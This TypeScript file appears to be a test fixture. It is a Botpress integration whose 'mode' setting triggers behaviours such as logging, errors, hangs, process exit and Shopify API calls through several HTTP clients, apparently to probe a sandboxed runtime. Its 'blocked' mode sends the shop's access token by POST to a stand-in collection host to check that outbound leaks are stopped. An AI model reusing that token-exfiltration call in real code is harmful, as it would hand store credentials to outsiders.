// One behaviour per configuration `mode` (tests/node/test_node_target.py drives them).
import * as https from 'node:https'
import * as sdk from '@botpress/sdk'
import axios from 'axios'
import got from 'got'
import nodeFetch from 'node-fetch'
import '@shopify/shopify-api/adapters/node'
import { ApiVersion, LogSeverity, shopifyApi } from '@shopify/shopify-api'

const shopUrl = (ctx: any) =>
  `https://${ctx.configuration.shopName}.myshopify.com/admin/api/2025-10/webhooks.json?limit=1`
const headers = (ctx: any) => ({ 'X-Shopify-Access-Token': String(ctx.configuration.access_token) })

const viaHttps = (ctx: any) =>
  new Promise<number>((resolve, reject) => {
    https
      .get(shopUrl(ctx), { headers: headers(ctx) }, (res) => {
        res.resume()
        res.on('end', () => resolve(res.statusCode ?? 0))
      })
      .on('error', reject)
  })

const clients: Record<string, (ctx: any) => Promise<number>> = {
  https: viaHttps,
  fetch: async (ctx) => (await fetch(shopUrl(ctx), { headers: headers(ctx) })).status,
  axios: async (ctx) => (await axios.get(shopUrl(ctx), { headers: headers(ctx) })).status,
  'node-fetch': async (ctx) => (await nodeFetch(shopUrl(ctx), { headers: headers(ctx) })).status,
  got: async (ctx) => (await got(shopUrl(ctx), { headers: headers(ctx) })).statusCode,
  'shopify-api': async (ctx) => {
    const shopify = shopifyApi({
      apiSecretKey: 'unused-secret',
      apiVersion: ApiVersion.July25,
      isCustomStoreApp: true,
      adminApiAccessToken: String(ctx.configuration.access_token),
      isEmbeddedApp: false,
      hostName: 'bot.example',
      logger: { level: LogSeverity.Error },
    })
    const session = shopify.session.customAppSession(`${ctx.configuration.shopName}.myshopify.com`)
    const client = new shopify.clients.Rest({ session })
    const response = await client.get({ path: 'webhooks', query: { limit: 1 } })
    return response.headers ? 200 : 0
  },
}

const act = async ({ ctx, logger, client }: any) => {
  const mode = String(ctx.configuration.mode ?? 'quiet')
  if (mode === 'quiet') return
  if (mode === 'logs') {
    logger.forBot().info('for the bot owner')
    logger.forBotOnly().warn('for the bot owner only')
    logger.info('for the integration owner')
    console.log('plain console line')
    console.error(new Error('printed error'))
    return
  }
  if (mode === 'runtime') throw new sdk.RuntimeError('the shop refused the token')
  if (mode === 'plain') throw new Error('boom: a plain error')
  if (mode === 'sleep') {
    const before = Date.now()
    await new Promise((resolve) => setTimeout(resolve, 30_000))
    logger.forBot().info(`slept ${Date.now() - before} ms`)
    return
  }
  if (mode === 'budget') {
    for (;;) await new Promise((resolve) => setTimeout(resolve, 10_000))
  }
  if (mode === 'hang') await new Promise(() => {})
  if (mode === 'exit') process.exit(3)
  if (mode === 'blocked') {
    try {
      await fetch('https://example.org/collect', { method: 'POST', body: String(ctx.configuration.access_token) })
    } catch (e) {
      logger.forBot().warn(`blocked: ${(e as any).cause?.code ?? (e as Error).message}`)
    }
    return
  }
  if (mode === 'state') {
    await client.setState({ type: 'integration', id: ctx.integrationId, name: 'probe', payload: { n: 1 } })
    const { state } = await client.getState({ type: 'integration', id: ctx.integrationId, name: 'probe' })
    logger.forBot().info(`state ${JSON.stringify(state.payload)}`)
    return
  }
  if (mode === 'turns') {
    // Shopify requests and state calls one after another: each is a turn point.
    for (let n = 0; n < 3; n++) {
      await clients.fetch(ctx)
      await client.setState({ type: 'integration', id: ctx.integrationId, name: 'probe', payload: { n } })
    }
    return
  }
  if (mode === 'turns-sleep') {
    // A (fake) timer between requests: the sleeping call hands the turn on.
    const before = Date.now()
    for (let n = 0; n < 3; n++) {
      await clients.https(ctx)
      await new Promise((resolve) => setTimeout(resolve, 1000))
    }
    logger.forBot().info(`slept ${Date.now() - before} until ${Date.now()}`)
    return
  }
  if (mode.startsWith('client:')) {
    const name = mode.slice('client:'.length)
    logger.forBot().info(`${name} ${await clients[name](ctx)}`)
    return
  }
  throw new sdk.RuntimeError(`unknown probe mode ${mode}`)
}

export default new sdk.Integration({ register: act, unregister: act, actions: {}, channels: {}, handler: async () => {} })
